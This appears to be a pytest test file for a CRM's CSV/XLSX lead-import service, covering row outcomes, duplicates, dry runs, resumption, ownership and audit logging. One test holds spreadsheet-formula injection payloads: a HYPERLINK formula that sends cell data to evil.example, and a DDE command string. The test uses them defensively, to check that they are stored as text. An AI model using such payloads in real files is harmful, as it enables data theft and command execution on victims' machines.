"""The import run: created / updated / skipped / rejected rows, duplicates in the file and in the
database, each on-duplicate choice, dry run, idempotency, kill-and-rerun, owners and audit."""

import pytest

from tests.factories import CompanyFactory, ContactFactory
from tests.imports.helpers import HEADER_EN, csv_bytes, outcomes, run_import, start, xlsx_bytes
from tradewind.core.errors import DomainError, NotFound, PermissionDenied
from tradewind.core.models import AuditEvent
from tradewind.customers.imports import running, services
from tradewind.customers.imports.choices import JobStatus
from tradewind.customers.imports.models import ImportFile, ImportJob, ImportRow
from tradewind.customers.imports.parsing import RejectedFile
from tradewind.customers.models import Company, Contact

pytestmark = pytest.mark.django_db

ROWS = [
    HEADER_EN,
    ["Nordlicht Leuchten GmbH", "Anna Weber", "anna@nordlicht.de", "030 1234567", "Germany",
     "www.nordlicht.de", "Canton Fair", "Wants 2x40HQ"],
    ["Atlas Lighting LLC", "John Smith", "john@atlas-lighting.com", "+1 212 555 0100", "USA",
     "atlas-lighting.com", "Alibaba", ""],
    ["Broken Email Ltd", "Eve", "eve@", "", "UK", "", "", ""],
    ["Sol y Luz S.A.", "Lucía", "lucia@solyluz.es", "", "España", "solyluz.es", "", ""],
]  # fmt: skip


def test_each_row_ends_created_or_rejected_with_its_reason(rep):
    job = run_import(rep, csv_bytes(ROWS))
    assert job.status == JobStatus.DONE
    assert (job.total_rows, job.rows_done) == (4, 4)
    assert (job.created_count, job.rejected_count) == (3, 1)
    result = outcomes(job)
    assert result[4] == ("rejected", "“eve@” is not a valid email address.")
    assert [result[n][0] for n in (2, 3, 5)] == ["created"] * 3
    nordlicht = Company.objects.get(name="Nordlicht Leuchten GmbH")
    assert (nordlicht.owner, nordlicht.country, nordlicht.source) == (rep, "DE", "trade_fair")
    assert nordlicht.website_domain == "nordlicht.de"
    assert nordlicht.owner_since is not None
    anna = nordlicht.contacts.get()
    assert (anna.name, anna.email, anna.phone) == (
        "Anna Weber",
        "anna@nordlicht.de",
        "+49301234567",
    )
    assert ImportRow.objects.get(job=job, row_number=2).company == nordlicht


def test_every_created_company_gets_an_audit_event_and_the_job_one_more(rep):
    job = run_import(rep, csv_bytes(ROWS))
    creates = AuditEvent.objects.filter(action="create", object_type="customers.company")
    assert creates.count() == 3
    event = creates.get(object_repr="Nordlicht Leuchten GmbH")
    assert event.actor == rep
    assert event.company_id == Company.objects.get(name="Nordlicht Leuchten GmbH").pk
    assert event.changes["contacts"] == ["Anna Weber"]
    job_event = AuditEvent.objects.get(action="import")
    assert (job_event.object_id, job_event.changes["created"]) == (job.pk, 3)


def test_imported_companies_are_found_by_the_duplicate_check_at_once(rep):
    from tradewind.customers.dedup.engine import Candidate, find_duplicates

    run_import(rep, csv_bytes(ROWS))
    matches = find_duplicates(Candidate(name="Nordlicht Leuchten", emails=("x@nordlicht.de",)))
    assert [match.company_name for match in matches] == ["Nordlicht Leuchten GmbH"]


def test_an_xlsx_file_imports_like_a_csv(rep):
    job = run_import(rep, xlsx_bytes(ROWS), file_name="leads.xlsx")
    assert (job.file_kind, job.created_count, job.rejected_count) == ("xlsx", 3, 1)


def test_a_corrected_mapping_is_used(rep):
    rows = [["Firma X", "Kontakt"], ["Acme GmbH", "info@acme.de"]]
    job = run_import(
        rep, csv_bytes([["Company", "Notes"], *rows[1:]]), mapping={0: "name", 1: "email"}
    )
    assert Contact.objects.get().email == "info@acme.de"
    assert job.created_count == 1


def test_a_file_without_a_company_or_email_column_is_rejected_and_nothing_is_stored(rep):
    with pytest.raises(RejectedFile, match="No column of this file is recognisable"):
        services.import_job_create(
            actor=rep, content=csv_bytes([["Fax", "Notizen"], ["1", "2"]]), file_name="x.csv"
        )
    assert not ImportJob.objects.exists()


def test_formula_cells_are_stored_as_text(rep):
    evil = '=HYPERLINK("http://evil.example/?"&A1,"Click me")'
    run_import(rep, csv_bytes([["Company", "Notes"], [evil, "+cmd|' /C calc'!A0"]]))
    company = Company.objects.get()
    assert (company.name, company.notes) == (evil, "+cmd|' /C calc'!A0")


# --- Duplicates ---------------------------------------------------------------------------


IN_FILE = [
    ["Company", "Contact", "Email", "Country", "Website"],
    ["Nordlicht Leuchten GmbH", "Anna", "anna@nordlicht.de", "DE", ""],
    ["Atlas Lighting LLC", "John", "john@atlas.com", "US", ""],
    ["NORDLICHT LEUCHTEN", "Ben", "ben@nordlicht.de", "DE", "nordlicht.de"],
    ["Nordlicht Leuchtenn GmbH & Co. KG", "Cleo", "", "DE", ""],
]


def test_duplicates_within_the_file_are_skipped_with_the_row_they_repeat(rep):
    job = run_import(rep, csv_bytes(IN_FILE), on_duplicate="skip")
    result = outcomes(job)
    assert [result[n][0] for n in (2, 3, 4, 5)] == ["created", "created", "skipped_duplicate",
                                                    "skipped_duplicate"]  # fmt: skip
    assert result[4][1].startswith("Same customer as row 2 of this file")
    assert "Similar name" in result[5][1]
    assert Company.objects.count() == 2
    assert ImportRow.objects.get(job=job, row_number=4).company.name == "Nordlicht Leuchten GmbH"


def test_fill_merges_duplicates_within_the_file_into_the_first_row(rep):
    job = run_import(rep, csv_bytes(IN_FILE), on_duplicate="fill")
    result = outcomes(job)
    assert [result[n][0] for n in (4, 5)] == ["updated", "updated"]
    company = Company.objects.get(name="Nordlicht Leuchten GmbH")
    assert company.website == "nordlicht.de"
    assert sorted(company.contacts.values_list("name", flat=True)) == ["Anna", "Ben", "Cleo"]
    assert Company.objects.count() == 2


def test_create_anyway_creates_duplicates_and_says_so(rep):
    job = run_import(rep, csv_bytes(IN_FILE), on_duplicate="create")
    assert job.created_count == 4
    assert "Created although it looks like a duplicate" in outcomes(job)[4][1]


def test_a_duplicate_of_an_existing_customer_is_skipped_naming_it_and_its_owner(rep, other_rep):
    CompanyFactory(owner=other_rep, name="Nordlicht Leuchten GmbH", website="nordlicht.de")
    job = run_import(rep, csv_bytes(ROWS), on_duplicate="skip")
    outcome, reason = outcomes(job)[2]
    assert outcome == "skipped_duplicate"
    assert reason.startswith(
        f"Duplicate of “Nordlicht Leuchten GmbH” ({other_rep.get_full_name()}):"
    )
    assert Company.objects.filter(name="Nordlicht Leuchten GmbH").count() == 1


def test_fill_completes_only_the_empty_fields_of_my_existing_customer(rep):
    mine = CompanyFactory(owner=rep, name="Nordlicht Leuchten GmbH", country="DE", website="")
    ContactFactory(company=mine, name="Anna Weber", email="anna@nordlicht.de", phone="")
    Company.objects.filter(pk=mine.pk).update(notes="Keep this note")
    job = run_import(rep, csv_bytes(ROWS), on_duplicate="fill")
    outcome, reason = outcomes(job)[2]
    assert outcome == "updated"
    assert reason.startswith("Filled website, source; completed the contact Anna Weber. Duplicate")
    mine.refresh_from_db()
    assert (mine.website, mine.notes, mine.source) == ("www.nordlicht.de", "Keep this note",
                                                       "trade_fair")  # fmt: skip
    anna = mine.contacts.get()
    assert anna.phone == "+49301234567"
    update = AuditEvent.objects.get(
        action="update", company_id=mine.pk, object_type="customers.company"
    )
    assert update.changes["website"] == ["", "www.nordlicht.de"]
    completed = AuditEvent.objects.get(action="update", object_type="customers.contact")
    assert (completed.object_id, completed.changes) == (anna.pk, {"phone": ["", "+49301234567"]})


def test_fill_adds_a_new_contact_to_an_existing_customer(rep):
    mine = CompanyFactory(owner=rep, name="Atlas Lighting LLC", country="US", website="")
    run_import(rep, csv_bytes(ROWS), on_duplicate="fill")
    assert list(mine.contacts.values_list("email", flat=True)) == ["john@atlas-lighting.com"]


def test_fill_never_changes_another_reps_customer(rep, other_rep):
    theirs = CompanyFactory(owner=other_rep, name="Nordlicht Leuchten GmbH", website="")
    job = run_import(rep, csv_bytes(ROWS), on_duplicate="fill")
    outcome, reason = outcomes(job)[2]
    assert outcome == "skipped_duplicate"
    assert "another rep's customer, so it was not changed" in reason
    theirs.refresh_from_db()
    assert (theirs.website, theirs.contacts.count()) == ("", 0)


def test_a_fill_with_nothing_new_is_a_skipped_duplicate(rep):
    run_import(rep, csv_bytes(ROWS))
    job = run_import(rep, csv_bytes([ROWS[0], ROWS[1]]), on_duplicate="fill", file_name="again.csv")
    assert outcomes(job)[2][0] == "skipped_duplicate"


# --- Dry run, idempotency, resume --------------------------------------------------------


def test_a_dry_run_reports_every_row_and_changes_nothing(rep):
    job = run_import(rep, csv_bytes(IN_FILE), dry_run=True, on_duplicate="fill")
    assert (job.status, job.dry_run) == (JobStatus.DONE, True)
    assert (job.created_count, job.updated_count) == (2, 2)
    assert not Company.objects.exists()
    assert not Contact.objects.exists()
    assert not AuditEvent.objects.filter(object_type="customers.company").exists()
    assert ImportFile.objects.filter(job=job).exists()  # kept for "import for real"


def test_a_dry_run_can_then_be_imported_for_real(rep):
    dry = run_import(rep, csv_bytes(ROWS), dry_run=True)
    job = services.import_job_run_for_real(actor=rep, job_id=dry.pk)
    job = services.import_job_run(job_id=job.pk)
    assert (job.dry_run, job.created_count, job.dry_run_of) == (False, 3, dry)
    assert Company.objects.count() == 3
    assert not ImportFile.objects.filter(job=job).exists()


def test_importing_the_same_file_twice_creates_nothing_new(rep):
    run_import(rep, csv_bytes(ROWS), on_duplicate="create")
    again = run_import(rep, csv_bytes(ROWS), on_duplicate="create")
    assert Company.objects.count() == 3
    assert Contact.objects.count() == 3
    assert (again.created_count, again.skipped_count, again.rejected_count) == (0, 3, 1)
    assert outcomes(again)[2][1] == "Already imported from leads.csv (row 2)."


def test_a_lead_whose_company_was_deleted_since_can_be_imported_again(rep):
    from tradewind.customers.services import company_delete

    run_import(rep, csv_bytes(ROWS))
    company_delete(actor=rep, company_id=Company.objects.get(name="Atlas Lighting LLC").pk)
    again = run_import(rep, csv_bytes(ROWS))
    assert again.created_count == 1
    assert Company.objects.count() == 3


def test_an_import_killed_after_its_first_batch_finishes_without_duplicates_when_run_again(rep):
    rows = [["Company", "Email"]] + [[f"Buyer {n} Trading", f"info@buyer{n}.com"] for n in range(8)]
    job = start(rep, csv_bytes(rows))

    def kill(job):
        raise SystemError("worker killed")

    with pytest.raises(SystemError):
        services.import_job_run(job_id=job.pk, on_batch=kill)
    job.refresh_from_db()
    assert (job.status, job.rows_done) == (JobStatus.FAILED, 3)
    assert Company.objects.count() == 3

    job = services.import_job_run(job_id=job.pk)
    assert (job.status, job.rows_done, job.created_count) == (JobStatus.DONE, 8, 8)
    assert Company.objects.count() == 8
    numbers = list(ImportRow.objects.filter(job=job).values_list("row_number", flat=True))
    assert sorted(numbers) == list(range(2, 10))


def test_a_second_worker_on_the_same_job_writes_no_row_twice(rep):
    job = start(rep, csv_bytes(ROWS))
    first = running.runner_state(job, job.created_at)
    batch = list(services.data_rows(csv_bytes(ROWS), services._info(job), 1))
    assert running._run_batch(first, batch) == 4
    assert running._run_batch(running.runner_state(job, job.created_at), batch) == 0
    assert ImportRow.objects.filter(job=job).count() == 4
    assert Company.objects.count() == 3


def test_a_stopped_job_can_be_resumed_by_its_owner_only(
    rep, other_rep, django_capture_on_commit_callbacks
):
    job = start(rep, csv_bytes(ROWS))
    ImportJob.objects.filter(pk=job.pk).update(status=JobStatus.FAILED, error="boom")
    with pytest.raises(NotFound):
        services.import_job_resume(actor=other_rep, job_id=job.pk)
    with django_capture_on_commit_callbacks() as callbacks:
        services.import_job_resume(actor=rep, job_id=job.pk)
    assert len(callbacks) == 1
    job.refresh_from_db()
    assert (job.status, job.error) == (JobStatus.QUEUED, "")


def test_a_running_job_is_not_resumed_while_it_makes_progress(rep):
    job = start(rep, csv_bytes(ROWS))
    ImportJob.objects.filter(pk=job.pk).update(status=JobStatus.RUNNING)
    with pytest.raises(DomainError, match="not stopped"):
        services.import_job_resume(actor=rep, job_id=job.pk)


# --- Start: mapping, owners, permissions -----------------------------------------------


def test_a_job_starts_once_and_queues_its_background_task(rep, django_capture_on_commit_callbacks):
    job = services.import_job_create(actor=rep, content=csv_bytes(ROWS), file_name="a.csv")
    with django_capture_on_commit_callbacks() as callbacks:
        services.import_job_start(actor=rep, job_id=job.pk, mapping=job.mapping)
    assert len(callbacks) == 1
    with pytest.raises(DomainError, match="already been started"):
        services.import_job_start(actor=rep, job_id=job.pk, mapping=job.mapping)


def test_another_rep_cannot_start_my_import(rep, other_rep):
    job = services.import_job_create(actor=rep, content=csv_bytes(ROWS), file_name="a.csv")
    with pytest.raises(NotFound):
        services.import_job_start(actor=other_rep, job_id=job.pk, mapping=job.mapping)


def test_imported_leads_can_go_to_the_public_pool(rep):
    run_import(rep, csv_bytes(ROWS), owner_choice="pool")
    assert set(Company.objects.values_list("owner", flat=True)) == {None}


def test_a_manager_gives_imported_leads_to_a_rep_of_the_team(manager, rep, other_rep):
    run_import(manager, csv_bytes(ROWS), owner_choice="user", owner=rep)
    assert set(Company.objects.values_list("owner", flat=True)) == {rep.pk}
    with pytest.raises(PermissionDenied, match="own team"):
        start(manager, csv_bytes(ROWS), owner_choice="user", owner=other_rep)


def test_a_rep_cannot_give_imported_leads_to_a_colleague_or_the_assignment_rule(rep, teammate):
    with pytest.raises(PermissionDenied):
        start(rep, csv_bytes(ROWS), owner_choice="user", owner=teammate)
    with pytest.raises(PermissionDenied, match="Only managers"):
        start(rep, csv_bytes(ROWS), owner_choice="auto")


def test_the_report_reasons_are_in_the_language_of_whoever_ran_the_import(rep):
    rep.language = "zh-hans"
    rep.save()
    job = run_import(rep, csv_bytes(ROWS))
    assert job.rejected_count == 1  # the reason is stored (in Chinese once translated)
    assert ImportRow.objects.get(job=job, row_number=4).reason
